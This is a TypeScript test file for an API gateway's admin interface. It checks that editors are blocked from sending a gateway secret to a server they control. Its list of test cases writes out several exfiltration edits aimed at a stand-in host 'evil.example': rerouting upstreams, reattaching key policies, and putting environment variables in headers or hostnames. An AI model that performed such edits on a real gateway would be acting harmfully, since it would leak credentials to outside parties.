import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { type AdminClient, signInByName } from '../harness/admin-client.ts'
import { describeAdminProject, startAdminGateway } from '../harness/admin-gateway.ts'
import type { TestGateway } from '../harness/start-gateway.ts'
import { signIn, type TestProject } from '../harness/write-project.ts'

// An editor decides where routes lead, and must not have a key of the gateway sent to a server of their own.
let gateway: TestGateway
let editor: AdminClient
let owner: AdminClient
const variable = 'TEST_SECRET_TO_ANOTHER_HOST'
const unnamed = 'TEST_SECRET_NOBODY_NAMES'
const secret = 'pay-key-0123456789'
const evil = 'https://evil.example'

const project: Pick<TestProject, 'servers' | 'policies'> = {
  servers: {
    pay: { upstream: 'https://pay.example/mcp', inbound: ['sign-in', 'pay-key'] },
    notes: { upstream: 'https://notes.example/mcp', inbound: ['sign-in'] },
  },
  policies: { ...signIn(), 'pay-key': ['set-upstream-api-key-inbound', { value: `Bearer $env(${variable})` }] },
}

beforeAll(async () => {
  process.env[variable] = secret
  process.env[unnamed] = 'not-named-0123456789'
  gateway = await startAdminGateway(project)
  editor = await signInByName(gateway.directory, 'edda')
  owner = await signInByName(gateway.directory, 'olga')
})
afterAll(async () => {
  delete process.env[variable]
  delete process.env[unnamed]
  await gateway.close()
})

const routes = 'config/routes.oas.json'
const policies = 'config/policies.json'
const at = (name: string, ...rest: readonly (string | number)[]) => [
  'paths',
  `/mcp/${name}`,
  'get,post',
  'x-gateway-route',
  ...rest,
]
const set = (file: string, path: readonly (string | number)[], value: unknown) => ({ kind: 'set', file, path, value })
const moved = set(routes, at('pay', 'handler', 'options', 'rewritePattern'), `${evil}/mcp`)

async function send(client: AdminClient, path: string, body: object = {}) {
  const { headers } = await client.call('GET', '/config/files')
  return client.call('POST', path, { body, headers: { 'if-match': String(headers['etag']) } })
}
const apply = (client: AdminClient, ...edits: object[]) => send(client, '/config/apply', { edits })
const readFiles = async () =>
  Promise.all([routes, policies].map((file) => readFile(join(gateway.directory, file), 'utf8')))

const typed = (name: string, options: object) => ({
  kind: 'insert',
  file: policies,
  path: ['policies'],
  value: {
    name,
    policyType: 'set-headers-inbound',
    handler: { module: '$import(sallyport)', export: 'SetHeadersInboundPolicy', options },
  },
})

/** In the place of the key, under its name. */
const harmless = {
  name: 'pay-key',
  policyType: 'remove-headers-inbound',
  handler: { module: '$import(sallyport)', export: 'RemoveHeadersInboundPolicy', options: { headers: ['x-nothing'] } },
}

const attacks: readonly (readonly [how: string, edits: readonly object[], variable: string])[] = [
  ['has the route lead to it', [moved], variable],
  [
    'puts the policy on another route, which leads to it',
    [
      set(routes, at('notes', 'handler', 'options', 'rewritePattern'), evil),
      set(routes, at('notes', 'policies', 'inbound'), ['sign-in', 'pay-key']),
    ],
    variable,
  ],
  [
    'names the variable in a policy of their own',
    [
      typed('mine', { headers: [{ name: 'x-mine', value: `$env(${variable})` }] }),
      set(routes, at('notes', 'policies', 'inbound'), ['sign-in', 'mine']),
    ],
    variable,
  ],
  [
    'names a variable that no file named so far',
    [set(routes, at('notes', 'handler', 'options', 'rewritePattern'), `${evil}/$env(${unnamed})`)],
    unnamed,
  ],
  [
    'has the variable be the name of the host',
    [set(routes, at('notes', 'handler', 'options', 'rewritePattern'), `https://\${env.${variable}}.evil.example/`)],
    variable,
  ],
]

describe('an editor who wants a key of the gateway sent to a server of their own', () => {
  it.each(attacks)('and %s is refused, and told so before', async (_how, edits, name) => {
    const before = await readFiles()
    for (const path of ['/config/validate', '/config/diff']) {
      const { json, text } = await send(editor, path, { edits })
      expect(json['needsOwner']).toMatchObject([{ reason: 'admin_secret_needs_owner', variable: name }])
      expect(text).not.toContain(process.env[name])
    }
    const { status, json, text } = await apply(editor, ...edits)
    expect([status, json.reason, json['role']]).toEqual([403, 'admin_secret_needs_owner', 'owner'])
    expect(json['secrets']).toMatchObject([{ variable: name }])
    expect(text).not.toContain(process.env[name])
    expect(await readFiles()).toEqual(before)
  })

  it('is told which host it is, and how to go on', async () => {
    const { json } = await apply(editor, moved)
    expect(json['secrets']).toMatchObject([{ variable, hosts: [evil] }])
    expect(JSON.stringify(json)).toContain('Have an owner apply it')
    const event = await gateway.waitForEvent(({ reason }) => reason === 'admin_secret_needs_owner')
    expect(event).toMatchObject({ type: 'admin_refused', subject: 'edda' })
    expect(event.detail).toContain(evil)
  })

  it('and writes the whole file is refused', async () => {
    const { json } = await editor.call('GET', `/config/file?file=${routes}`)
    const text = String(json['text']).replace('https://pay.example', evil)
    const written = { kind: 'write', file: routes, base: json['version'], text }
    expect((await apply(editor, written)).json.reason).toBe('admin_secret_needs_owner')
  })

  it('and has the wizard plan it is refused', async () => {
    const credential = { mode: 'shared-api-key', scopes: [], apiKeyEnv: variable }
    const plan = await editor.call('POST', '/wizard/plan', {
      body: { upstream: { from: 'url', url: `${evil}/mcp` }, name: 'mine', credential, capabilities: {} },
    })
    expect(plan.json['needsOwner']).toMatchObject([{ variable, hosts: [evil] }])
    const { json } = await send(editor, '/config/apply', { edits: plan.json['edits'] })
    expect(json.reason).toBe('admin_secret_needs_owner')
  })

  it('may do all the rest', async () => {
    const path = set(routes, at('pay', 'handler', 'options', 'rewritePattern'), 'https://pay.example/v2')
    const other = set(routes, at('notes', 'handler', 'options', 'rewritePattern'), evil)
    const applied = await apply(editor, path, other)
    expect(applied.status, applied.text).toBe(200)
    const off = await editor.call('POST', '/virtual-servers/pay/switch', { body: { enabled: false } })
    expect(off.json['needsOwner']).toEqual([])
    expect((await send(editor, '/config/apply', { edits: off.json['edits'] })).status).toBe(200)
    const on = await editor.call('POST', '/virtual-servers/pay/switch', { body: { enabled: true } })
    expect((await send(editor, '/config/apply', { edits: on.json['edits'] })).status).toBe(200)
  })
})

describe('a key that is gone', () => {
  beforeEach(async () => {
    expect(await gateway.reload(describeAdminProject(project))).toEqual({ ok: true })
  })

  it.each([
    ['a variable', { value: `Bearer $env(${variable})` }],
    ['a text of the file', { value: 'Bearer literal-0123456789' }],
  ])('does not come back for an editor by the history: %s', async (_what, options) => {
    const key = ['policies', 1, 'handler', 'options']
    expect((await apply(owner, set(policies, key, options))).status).toBe(200)
    const removed = await apply(owner, set(policies, ['policies', 1], harmless))
    expect(removed.status).toBe(200)
    const turned = await apply(editor, moved)
    expect(turned.status, turned.text).toBe(200)
    const change = `/config/history/${String(removed.json['changeId'])}/rollback`
    const preview = await editor.call('GET', change)
    expect(preview.json['needsOwner']).toMatchObject([{ reason: 'admin_secret_needs_owner', hosts: [evil] }])
    const { status, json } = await send(editor, change)
    expect([status, json.reason]).toEqual([403, 'admin_secret_needs_owner'])
    expect((await readFiles()).join('')).not.toContain(options.value)
    expect((await send(owner, change)).status).toBe(200)
  })
})

it('an owner may', async () => {
  expect((await apply(owner, moved)).status).toBe(200)
})
